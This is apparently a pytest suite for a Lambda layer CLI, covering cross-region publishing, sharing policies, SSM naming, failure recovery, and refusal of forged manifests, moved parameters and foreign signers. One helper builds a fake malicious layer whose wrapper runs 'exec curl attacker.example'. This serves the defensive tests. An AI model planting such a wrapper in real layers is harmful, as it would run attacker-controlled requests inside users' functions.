"""``lambdawarmer publish`` against moto's server in several regions: aligned version numbers,
sharing, SSM parameters, the manifest, idempotency, a denied region resumed, and bad input named."""

from __future__ import annotations

import base64
import hashlib
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import boto3
import pytest

from lambdawarmer_cli.layer_sharing import granted
from layer.release_digests import record

from .control_plane import REGION, make_function, run, snapshot

REGIONS = ("us-east-1", "eu-west-1", "ap-southeast-2")
ORGANIZATION = "o-a1b2c3d4e5"


def lambda_in(region: str) -> Any:
    return boto3.client("lambda", region_name=region)


def versions(region: str) -> list[int]:
    return sorted(
        v["Version"] for v in lambda_in(region).list_layer_versions(LayerName="lambdawarmer")["LayerVersions"]
    )


def publish(layer_zip: Path, manifest: Path, *extra: str) -> tuple[int, str]:
    return run(
        "publish", str(layer_zip), "--regions", ",".join(REGIONS), "--manifest", str(manifest),
        "--region", REGION, *extra,
    )  # fmt: skip


def test_publish_aligns_shares_names_and_is_idempotent(
    aws: dict[str, Any], layer_zip: Path, tmp_path: Path, lambda_router: Any
) -> None:
    for _ in range(3):  # eu-west-1's counter is ahead: the others are brought up to it
        lambda_in("eu-west-1").publish_layer_version(
            LayerName="lambdawarmer", Content={"ZipFile": b"PK\x05\x06" + bytes(18)}
        )
    manifest = tmp_path / "manifest.json"
    status, output = publish(
        layer_zip, manifest, "--organization", ORGANIZATION, "--ssm-prefix", "/platform/lambdawarmer"
    )
    assert status == 0, output
    document = json.loads(manifest.read_text())
    assert (
        document["version"]
        == json.loads(zipfile.ZipFile(layer_zip).read("lambdawarmer-layer.json"))["version"]
    )
    assert set(document["regions"]) == set(REGIONS)
    assert {arn.rsplit(":", 1)[1] for arn in document["regions"].values()} == {"4"}  # the same number
    for region in REGIONS:
        arn = document["regions"][region]
        client = lambda_in(region)
        version = client.get_layer_version(LayerName="lambdawarmer", VersionNumber=4)
        assert version["CompatibleRuntimes"] == [f"python3.1{n}" for n in range(5)]
        assert version["CompatibleArchitectures"] == ["x86_64", "arm64"]
        assert version["LicenseInfo"] == "MIT"
        assert document["sha256"] in version["Description"]
        assert version["Content"]["CodeSha256"] == document["code_sha256"]
        policy = json.loads(
            client.get_layer_version_policy(LayerName="lambdawarmer", VersionNumber=4)["Policy"]
        )
        assert [(s["Principal"], s["OrganizationId"]) for s in policy["Statement"]] == [("*", ORGANIZATION)]
        ssm = boto3.client("ssm", region_name=region)
        for name in (f"/platform/lambdawarmer/{document['version']}", "/platform/lambdawarmer/latest"):
            assert ssm.get_parameter(Name=name)["Parameter"]["Value"] == arn
    assert versions("us-east-1") == [4]  # the versions below it were deleted

    status, output = publish(
        layer_zip, manifest, "--organization", ORGANIZATION, "--ssm-prefix", "/platform/lambdawarmer"
    )
    assert status == 0, output
    assert output.count("already there") == len(REGIONS)
    assert versions("us-east-1") == [4]


def shared_with(region: str, number: int = 1) -> set[tuple[str, str]]:
    """Who the version's policy, read back, lets use it: (Principal, OrganizationId) per statement."""
    try:
        policy = lambda_in(region).get_layer_version_policy(LayerName="lambdawarmer", VersionNumber=number)
    except lambda_in(region).exceptions.ResourceNotFoundException:
        return set()
    return {(s["Principal"], s.get("OrganizationId", "")) for s in json.loads(policy["Policy"])["Statement"]}


def test_sharing_converges_to_what_each_run_asks_and_says_what_changed(
    aws: dict[str, Any], layer_zip: Path, tmp_path: Path
) -> None:
    manifest = tmp_path / "manifest.json"
    steps = [
        (["--public"], {("*", "")}, "this account only -> public"),
        (["--organization", ORGANIZATION], {("*", ORGANIZATION)}, f"public -> organization {ORGANIZATION}"),
        (
            ["--account", "111111111111", "--account", "222222222222"],
            {("111111111111", ""), ("222222222222", "")},
            f"organization {ORGANIZATION} -> accounts 111111111111, 222222222222",
        ),
        (
            [],
            {("111111111111", ""), ("222222222222", "")},
            "sharing stays accounts 111111111111, 222222222222 (no sharing flag given)",
        ),
        (
            ["--account", "222222222222"],
            {("222222222222", "")},
            "accounts 111111111111, 222222222222 -> account 222222222222",
        ),
        (["--account", "222222222222"], {("222222222222", "")}, "sharing stays account 222222222222"),
        (["--private"], set(), "account 222222222222 -> this account only"),
    ]
    for flags, expected, says in steps:
        status, output = publish(layer_zip, manifest, *flags)
        assert status == 0, (flags, output)
        for region in REGIONS:
            assert shared_with(region) == expected, (flags, region)
            assert f"{region}: {says}" in output, (flags, output)


def test_one_organization_is_replaced_by_another(
    aws: dict[str, Any], layer_zip: Path, tmp_path: Path
) -> None:
    other = "o-zyxwvutsrq"
    for organization in (ORGANIZATION, other):
        status, output = publish(layer_zip, tmp_path / "m.json", "--organization", organization)
        assert status == 0, output
    assert f"us-east-1: organization {ORGANIZATION} -> organization {other}" in output
    assert {region: shared_with(region) for region in REGIONS} == {r: {("*", other)} for r in REGIONS}


def test_a_version_1_6_0_made_public_is_narrowed_and_others_statements_are_left_alone(
    aws: dict[str, Any], layer_zip: Path, tmp_path: Path
) -> None:
    status, output = publish(layer_zip, tmp_path / "m.json")
    assert status == 0, output
    for region in REGIONS:  # as 1.6.0 shared it, and a grant its owner made by hand
        for statement, principal in (("lambdawarmer-share", "*"), ("partner-access", "333333333333")):
            lambda_in(region).add_layer_version_permission(
                LayerName="lambdawarmer", VersionNumber=1, StatementId=statement,
                Action="lambda:GetLayerVersion", Principal=principal,
            )  # fmt: skip
    status, output = publish(layer_zip, tmp_path / "m.json", "--organization", ORGANIZATION)
    assert status == 0, output
    for region in REGIONS:
        assert shared_with(region) == {("*", ORGANIZATION), ("333333333333", "")}, region
        assert f"{region}: public -> organization {ORGANIZATION}" in output
        assert (
            f"{region}: statement 'partner-access' (account 333333333333) was not made by lambdawarmer "
            "publish: left alone" in output
        )


IN_ORGANIZATION = {"StringEquals": {"aws:PrincipalOrgID": ORGANIZATION}}


@pytest.mark.parametrize(
    ("statement", "grant"),
    [  # as Lambda's GetLayerVersionPolicy writes them (moto keeps the request's own fields)
        ({"Principal": "*"}, "public"),
        ({"Principal": "*", "Condition": IN_ORGANIZATION}, ORGANIZATION),
        ({"Principal": {"AWS": "arn:aws:iam::210987654321:root"}}, "210987654321"),
        ({"Principal": {"AWS": "arn:aws-cn:iam::210987654321:root"}}, "210987654321"),
        ({"Principal": "*", "Condition": {"StringEquals": {"aws:SourceVpc": "vpc-1"}}}, None),
        ({"Principal": {"AWS": "arn:aws:iam::210987654321:role/ci"}}, None),
        ({"Principal": "*", "Effect": "Deny"}, None),
    ],
)
def test_what_a_statement_grants_is_read_as_lambda_writes_it(
    statement: dict[str, Any], grant: str | None
) -> None:
    written = {"Sid": "x", "Effect": "Allow", "Action": "lambda:GetLayerVersion", "Resource": "arn:...:1"}
    assert granted({**written, **statement}) == grant


def test_a_denied_region_is_reported_and_running_again_finishes(
    aws: dict[str, Any], layer_zip: Path, tmp_path: Path, lambda_router: Any
) -> None:
    lambda_router.denied_regions.add("ap-southeast-2")
    manifest = tmp_path / "manifest.json"
    status, output = publish(layer_zip, manifest, "--public")
    assert status == 5, output
    assert "ap-southeast-2  FAILED  AccessDeniedException" in output
    assert "1 region(s) failed, 2 done: run the same command again" in output
    assert set(json.loads(manifest.read_text())["regions"]) == {"us-east-1", "eu-west-1"}
    lambda_router.denied_regions.clear()
    status, output = publish(layer_zip, manifest, "--public")
    assert status == 0, output
    assert output.count("already there") == 2
    assert set(json.loads(manifest.read_text())["regions"]) == set(REGIONS)


def test_a_region_that_fails_after_publishing_is_not_in_the_manifest(
    aws: dict[str, Any], layer_zip: Path, tmp_path: Path
) -> None:
    # SSM keeps 100 versions of a parameter, and one more is refused while the oldest has a label.
    ssm = boto3.client("ssm", region_name="eu-west-1")
    for n in range(100):
        ssm.put_parameter(Name="/platform/lambdawarmer/latest", Value=f"v{n}", Type="String", Overwrite=True)
    ssm.label_parameter_version(Name="/platform/lambdawarmer/latest", ParameterVersion=1, Labels=["first"])
    manifest = tmp_path / "manifest.json"
    status, output = publish(layer_zip, manifest, "--ssm-prefix", "/platform/lambdawarmer")
    assert status == 5, output
    assert "eu-west-1       FAILED  ParameterMaxVersionLimitExceeded" in output
    assert "(while sharing or naming arn:aws:lambda:eu-west-1:123456789012:layer:lambdawarmer:1)" in output
    assert set(json.loads(manifest.read_text())["regions"]) == {"us-east-1", "ap-southeast-2"}


DEEPEST = "".join(f"/level{n}" for n in range(14))  # with the version or latest below it: 15 levels


@pytest.mark.parametrize(
    ("prefix", "says"),
    [
        ("/aws/lambdawarmer", "beginning with aws or ssm (in any case) is reserved"),
        ("/AWSTeam/lambdawarmer", "beginning with aws or ssm (in any case) is reserved"),
        ("/Ssm/lambdawarmer", "beginning with aws or ssm (in any case) is reserved"),
        (f"{DEEPEST}/one-more", "has 16 levels, and SSM allows at most 15"),
        ("/platform/" + "x" * 950, "with its ARN before it (arn:aws:ssm:ap-southeast-2:123456789012"),
        ("platform/lambdawarmer", "a name in a hierarchy begins with /"),
        ("/platform//lambdawarmer", "each level, between slashes, holds one or more of a-z A-Z 0-9 _ . -"),
        ("/platform/lambda warmer", "each level, between slashes, holds one or more of a-z A-Z 0-9 _ . -"),
        ("/platform/lambdawarmer/", "each level, between slashes, holds one or more of a-z A-Z 0-9 _ . -"),
    ],
)
def test_an_ssm_prefix_ssm_would_refuse_is_refused_before_anything_is_published(
    aws: dict[str, Any], layer_zip: Path, tmp_path: Path, prefix: str, says: str
) -> None:
    status, output = publish(layer_zip, tmp_path / "m.json", "--public", "--ssm-prefix", prefix)
    assert (status, says in output) == (2, True), output
    assert [versions(region) for region in REGIONS] == [[], [], []]
    assert not (tmp_path / "m.json").exists()


def test_the_deepest_and_longest_prefixes_ssm_takes_are_taken(
    aws: dict[str, Any], layer_zip: Path, tmp_path: Path
) -> None:
    arn_before = len("arn:aws:ssm:ap-southeast-2:123456789012:parameter")
    longest = "/platform/" + "x" * (1011 - arn_before - len("/platform/") - len("/latest"))
    version = json.loads(zipfile.ZipFile(layer_zip).read("lambdawarmer-layer.json"))["version"]
    assert len(version) <= len("latest")  # so <prefix>/latest is the longer name
    for prefix in (DEEPEST, longest):
        status, output = publish(layer_zip, tmp_path / "m.json", "--ssm-prefix", prefix)
        assert status == 0, output
        ssm = boto3.client("ssm", region_name="ap-southeast-2")
        assert ssm.get_parameter(Name=f"{prefix}/latest")["Parameter"]["Value"].endswith(":lambdawarmer:1")


@pytest.mark.parametrize(
    ("extra", "says"),
    [
        (["--regions", "us-east-1,mars-north-1"], "mars-north-1 not a region of aws that offers Lambda"),
        (["--organization", "acme"], "expected an organization id"),
        (["--account", "12345"], "expected a 12-digit account id"),
        (["--ssm-prefix", "no slash"], "a name in a hierarchy begins with /"),
        (["--public", "--organization", "o-a1b2c3d4e5"], "not allowed with"),
    ],
)
def test_bad_input_is_named_before_anything_is_published(
    aws: dict[str, Any], layer_zip: Path, tmp_path: Path, extra: list[str], says: str
) -> None:
    status, output = run("publish", str(layer_zip), "--manifest", str(tmp_path / "m.json"), *extra)
    assert (status, says in output) == (2, True), output
    assert versions("us-east-1") == []


def test_a_zip_that_is_not_ours_is_refused(aws: dict[str, Any], tmp_path: Path) -> None:
    other = tmp_path / "other.zip"
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("lambdawarmer-wrapper", "#!/bin/sh\n")
    status, output = run("publish", str(other), "--regions", "us-east-1")
    assert (status, "without its lambdawarmer-layer.json" in output) == (2, True), output


OURS_SIGNER = "arn:aws:signer:us-east-1:123456789012:/signing-profiles/lambdawarmer/a1b2c3d4e5"
OTHER_SIGNER = "arn:aws:signer:us-east-1:210987654321:/signing-profiles/lambdawarmer/f6e7d8c9b0"


@pytest.fixture
def releases(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], None]:
    """The releases the command knows: the list it ships, replaced by one naming the zips given."""
    listed = tmp_path / "release_digests.json"
    listed.write_text("{}")
    monkeypatch.setattr("lambdawarmer_cli.release_digests.DIGESTS", listed)

    def release(*zips: Path) -> None:
        for number, layer in enumerate(zips, start=1):
            record(f"1.{number}.0", hashlib.sha256(layer.read_bytes()).hexdigest(), listed)

    return release


def look_alike(tmp_path: Path, name: str = "lambdawarmer") -> tuple[str, str]:
    """A layer version anyone allowed to publish one could make: its ARN and its CodeSha256."""
    path = tmp_path / f"{name}.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("lambdawarmer-wrapper", "#!/bin/sh\nexec curl attacker.example\n")
    published = lambda_in(REGION).publish_layer_version(
        LayerName=name, Content={"ZipFile": path.read_bytes()}
    )
    return published["LayerVersionArn"], published["Content"]["CodeSha256"]


def account(aws: dict[str, Any]) -> dict[str, Any]:
    """The function and what enable would make, and the SSM parameter naming the layer."""
    ssm = boto3.client("ssm", region_name=REGION)
    return {**snapshot(aws), "parameter": ssm.get_parameter(Name=PARAMETER)["Parameter"]["Value"]}


PARAMETER = "/platform/lambdawarmer/latest"


def test_enable_attaches_a_layer_named_by_manifest_parameter_or_arn_only_when_its_content_is_known(
    aws: dict[str, Any],
    layer_zip: Path,
    tmp_path: Path,
    lambda_router: Any,
    releases: Callable[..., None],
) -> None:
    make_function(aws)
    manifest = tmp_path / "manifest.json"
    status, output = publish(layer_zip, manifest, "--ssm-prefix", "/platform/lambdawarmer")
    assert status == 0, output
    ours = json.loads(manifest.read_text())["regions"][REGION]
    sha256 = hashlib.sha256(layer_zip.read_bytes()).hexdigest()
    foreign, foreign_code = look_alike(tmp_path)
    enable = ("enable", "orders", "--concurrency", "2", "--dry-run")
    # No release is listed: neither the manifest's own digest nor what SSM holds proves anything.
    for way in (("--manifest", str(manifest)), ("--layer-parameter", PARAMETER), ("--layer-arn", ours)):
        status, output = run(*enable, *way)
        assert (status, "no lambdawarmer release this command knows (releases listed: none)" in output) == (
            2,
            True,
        ), (way, output)
    releases(layer_zip)
    foreign_sha256 = base64.b64decode(foreign_code).hex()
    for way, attached in (
        (("--manifest", str(manifest)), ours),
        (("--layer-parameter", PARAMETER), ours),
        (("--layer-arn", ours), ours),
        (("--layer-parameter", PARAMETER, "--layer-sha256", sha256), ours),
        (("--layer-arn", foreign, "--layer-sha256", foreign_sha256), foreign),  # the user named it
        (("--layer-arn", foreign, "--trust-layer"), foreign),  # told to: it is not checked
    ):
        status, output = run(*enable, *way)
        assert status == 0, (way, output)
        assert f"+ {attached}" in output, (way, output)
    for way, says in (
        (("--layer-arn", foreign), "no lambdawarmer release this command knows (releases listed: 1.1.0)"),
        (
            ("--layer-arn", foreign, "--layer-sha256", sha256),
            "does not hold the content named by --layer-sha256",
        ),
        (("--layer-parameter", "/no/such"), "cannot be read: ParameterNotFound"),
        (("--layer-arn", ours, "--layer-sha256", "abc"), "64 hexadecimal digits"),
        (("--layer-arn", ours, "--signing-profile-version-arn", "lambdawarmer"), "expected arn:aws:signer:"),
        (("--manifest", str(tmp_path / "none.json")), "No such file"),
        (("--publish", str(layer_zip), "--layer-sha256", sha256), "--layer-sha256 checks a layer named by"),
        (("--trust-layer",), "--trust-layer checks a layer named by"),
    ):
        status, output = run(*enable, *way)
        assert (status, says in output) == (2, True), (way, output)


def test_a_forged_manifest_a_moved_parameter_and_another_signer_are_refused_with_nothing_changed(
    aws: dict[str, Any],
    layer_zip: Path,
    tmp_path: Path,
    lambda_router: Any,
    releases: Callable[..., None],
) -> None:
    """Each as an attacker who may publish layer versions, write a manifest or an SSM parameter would
    try it: enable (not a dry run) refuses before any change."""
    make_function(aws)
    manifest = tmp_path / "manifest.json"
    status, output = publish(layer_zip, manifest, "--ssm-prefix", "/platform/lambdawarmer")
    assert status == 0, output
    ours = json.loads(manifest.read_text())["regions"][REGION]
    releases(layer_zip)
    forged, forged_code = look_alike(tmp_path, "totally-not-lambdawarmer")
    forged_manifest = tmp_path / "forged.json"
    forged_manifest.write_text(json.dumps({"regions": {REGION: forged}, "code_sha256": forged_code}))
    lambda_router.signed_layers[ours] = {"SigningProfileVersionArn": OURS_SIGNER, "SigningJobArn": "job-1"}
    lambda_router.signed_layers[forged] = {"SigningProfileVersionArn": OTHER_SIGNER, "SigningJobArn": "job-2"}
    before = account(aws)
    for way, says in (
        (("--manifest", str(forged_manifest)), "although its manifest names it"),
        (
            ("--layer-arn", forged, "--signing-profile-version-arn", OURS_SIGNER),
            f"(signed by {OTHER_SIGNER})",
        ),
        (("--layer-arn", ours, "--signing-profile-version-arn", OTHER_SIGNER), f"(signed by {OURS_SIGNER})"),
    ):
        status, output = run("enable", "orders", "--concurrency", "2", *way)
        assert (status, says in output) == (2, True), (way, output)
        assert account(aws) == before, way
    boto3.client("ssm", region_name=REGION).put_parameter(
        Name=PARAMETER, Value=forged, Type="String", Overwrite=True
    )
    before = account(aws)
    status, output = run("enable", "orders", "--concurrency", "2", "--layer-parameter", PARAMETER)
    assert (status, "no lambdawarmer release this command knows" in output) == (2, True), output
    assert account(aws) == before
    # The genuine version, named by its signer alone, is attached.
    status, output = run(
        "enable", "orders", "--concurrency", "2", "--dry-run",
        "--layer-arn", ours, "--signing-profile-version-arn", OURS_SIGNER,
    )  # fmt: skip
    assert (status, f"+ {ours}" in output) == (0, True), output
